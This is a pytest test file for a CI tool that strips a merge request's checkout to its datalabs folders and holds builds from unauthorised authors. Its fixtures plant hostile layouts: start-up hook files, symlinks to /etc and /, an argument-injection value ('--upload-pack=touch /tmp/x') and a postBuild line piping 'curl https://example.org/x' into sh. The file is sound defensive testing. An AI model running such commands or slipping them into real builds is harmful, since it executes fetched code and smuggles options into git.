"""Authorise, then execute: `sciapps admit` leaves a merge request nothing of its own in the
checkout but its datalabs, and the plan holds the builds its author may not have run.
Every hostile layout is built here at run time; the whole pipeline is run with planted
markers in tests/test_gitlab_ci.py."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from sciapps.catalog.loader import resolve
from sciapps.cli import cli
from sciapps.config import load_config
from sciapps.plan import plan
from sciapps.roles import Roles
from sciapps.trust import admit, authorise
from tests.conftest import copy_repository

ADVANCED = "jwst-nircam-image-explorer"


def _git(root: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=root, check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def merge_request(tmp_path) -> tuple[Path, str]:
    """A catalog whose HEAD is a merge request on top of `base`."""
    root = copy_repository(tmp_path / "catalog")
    _write(root, "keys/release.pub", "the catalog's public key\n")
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "catalog")
    base = _git(root, "rev-parse", "HEAD")
    _git(root, "checkout", "-q", "-b", "mr")
    return root, base


def _write(root: Path, path: str, text: str = "print('MR CODE')\n", mode: int = 0o644) -> None:
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    target.chmod(mode)


def _commit(root: Path) -> None:
    _git(root, "add", "-A", "-f")
    _git(root, "commit", "-qm", "the merge request")


def test_admit_keeps_only_the_datalabs_of_a_merge_request(merge_request):
    root, base = merge_request
    before = {
        p: (root / p).read_bytes()
        for p in (
            "tools/sciapps/__init__.py",
            "base-images/jl_base/Dockerfile",
            "roles.yaml",
            "sciapps.yaml",
            "keys/release.pub",
            ".gitlab-ci.yml",
            "charts/datalab/values.yaml",
        )
    }
    metadata = root / "datalabs" / "gaia-dr3-hrd" / "datalab.yaml"
    _write(root, "datalabs/gaia-dr3-hrd/datalab.yaml", metadata.read_text().replace("status: published", "status: draft"))
    _write(root, "datalabs/new-lab/notes.md", "a new datalab's file\n")
    for path in (
        "venv/__main__.py",
        "ensurepip/__init__.py",
        "sitecustomize.py",
        "usercustomize.py",
        "zz.pth",
        "sciapps/__init__.py",
        "setup.py",
        "conftest.py",
    ):
        _write(root, path)
    _write(root, ".venv/bin/pip", "#!/bin/sh\necho MR CODE\n", 0o755)
    _write(root, ".venv/pyvenv.cfg", "home = /usr/bin\n")
    for path in ("tools/sciapps/__init__.py", "base-images/jl_base/Dockerfile", "roles.yaml", "sciapps.yaml", ".gitlab-ci.yml"):
        _write(root, path, (root / path).read_text() + "\n# the merge request's\n")
    (root / "charts" / "datalab" / "values.yaml").unlink()
    (root / "keys" / "release.pub").unlink()
    (root / "keys").rmdir()
    (root / "keys").symlink_to("/etc")  # a folder becomes a link
    _write(root, "CODEOWNERS", (root / "CODEOWNERS").read_text() + "/datalabs/new-lab/ @someone\n")
    _commit(root)
    head = _git(root, "rev-parse", "HEAD")
    done = admit(root, base)
    assert done.head == head and done.base == base and done.kept == ["datalabs", "CODEOWNERS"]
    for path, data in before.items():
        assert (root / path).read_bytes() == data and not (root / path).is_symlink(), path
    for path in (
        "venv",
        "ensurepip",
        "sitecustomize.py",
        "usercustomize.py",
        "zz.pth",
        "sciapps",
        "setup.py",
        "conftest.py",
        ".venv",
    ):
        assert not os.path.lexists(root / path), path
    assert "status: draft" in metadata.read_text() and (root / "datalabs" / "new-lab" / "notes.md").is_file()
    assert "@someone" in (root / "CODEOWNERS").read_text()
    assert _git(root, "rev-parse", "HEAD") == head  # the merge request's commits stay readable for the review
    changed = _git(root, "diff", "--name-only", base, "--").split("\n")
    assert changed == ["CODEOWNERS", "datalabs/gaia-dr3-hrd/datalab.yaml", "datalabs/new-lab/notes.md"]
    paths = [path for _, path in done.waiting]
    assert paths == sorted(paths) and {
        ".gitlab-ci.yml",
        ".venv/bin/pip",
        "base-images/jl_base/Dockerfile",
        "charts/datalab/values.yaml",
        "keys",
        "keys/release.pub",
        "roles.yaml",
        "sciapps.yaml",
        "tools/sciapps/__init__.py",
        "venv/__main__.py",
        "zz.pth",
    } <= set(paths)
    assert not any(p.startswith("datalabs/") for p in paths) and "CODEOWNERS" in paths  # CODEOWNERS is kept, yet listed


def test_admit_refuses_a_catalog_folder_that_is_a_link(merge_request):
    root, base = merge_request
    _git(root, "rm", "-rq", "datalabs")
    (root / "datalabs").symlink_to("/")
    _commit(root)
    done = admit(root, base)
    assert done.kept == ["CODEOWNERS"] and (root / "datalabs").is_dir() and not (root / "datalabs").is_symlink()
    assert ("A", "datalabs") in done.waiting


def test_the_admit_command(merge_request, monkeypatch):
    root, base = merge_request
    _write(root, "sitecustomize.py")
    _commit(root)
    monkeypatch.chdir(root)
    result = CliRunner().invoke(cli, ["admit", "--base", base])
    assert result.exit_code == 0, result.output
    assert (
        "1 path(s) the merge request changes outside datalabs/ wait for a moderator and are not used here (sitecustomize.py)"
        in result.output
    )
    assert not (root / "sitecustomize.py").exists()
    bad = CliRunner().invoke(cli, ["admit", "--base", "--upload-pack=touch /tmp/x"])
    assert bad.exit_code == 2 and "is not a revision" in bad.output


def test_authorise_holds_what_the_author_may_not_have_built(merge_request):
    root, _ = merge_request
    config = load_config(root / "sciapps.yaml")
    roles = Roles(moderators=("mod",), advanced_developers=("adv",))
    asked = []

    def author(name):
        return lambda: asked.append(name) or name

    labs = resolve(config, [ADVANCED, "gaia-dr3-hrd"])
    held = authorise(config, roles, author("someone"), labs)
    assert list(held) == [ADVANCED] and "`someone` is not one in the target branch's roles.yaml" in held[ADVANCED]
    assert authorise(config, roles, author("adv"), labs) == {} and authorise(config, roles, author("mod"), labs) == {}
    unknown = authorise(config, roles, lambda: None, labs)
    assert "GitLab did not say who opened the merge request" in unknown[ADVANCED]
    asked.clear()
    assert (
        authorise(config, roles, author("someone"), resolve(config, ["gaia-dr3-hrd"])) == {} and asked == []
    )  # not asked: no role needed
    # basic mode within DL-058 only: an exception the merge request claims itself is a moderator's to approve first
    lab = root / "datalabs" / "gaia-dr3-hrd"
    (lab / "postBuild").write_text("#!/bin/sh\ncurl https://example.org/x | sh\n")
    meta = lab / "datalab.yaml"
    meta.write_text(meta.read_text() + "exceptions:\n  - rule: DL-058\n    reason: it only enables an extension, trust me.\n")
    held = authorise(config, roles, author("adv"), resolve(config, ["gaia-dr3-hrd"]))
    assert "DL-058: runs as a script while the image is built" in held["gaia-dr3-hrd"]


def test_a_merge_requests_plan_holds_and_lists(merge_request):
    root, base = merge_request
    _write(
        root,
        "roles.yaml",
        (root / "roles.yaml").read_text().replace("advanced_developers: [aokonkwo]", "advanced_developers: [aokonkwo, eve]"),
    )
    _write(root, f"datalabs/{ADVANCED}/notebooks/extra.md", "more\n")
    _write(root, "datalabs/ds9-fits-viewer/notes.md", "more\n")
    _commit(root)
    config = load_config(root / "sciapps.yaml")
    p = plan(config, base, author=lambda: "eve")  # eve is an advanced developer only in the merge request's roles.yaml
    assert p.ids("build") == ["ds9-fits-viewer"] and [h.datalab for h in p.held] == [ADVANCED]
    assert p.waiting == [("M", "roles.yaml")]
    assert plan(config, base, author=lambda: "aokonkwo").held == []  # one on the target branch
    assert plan(config, base).held == []  # not a merge request's plan: nothing is authorised
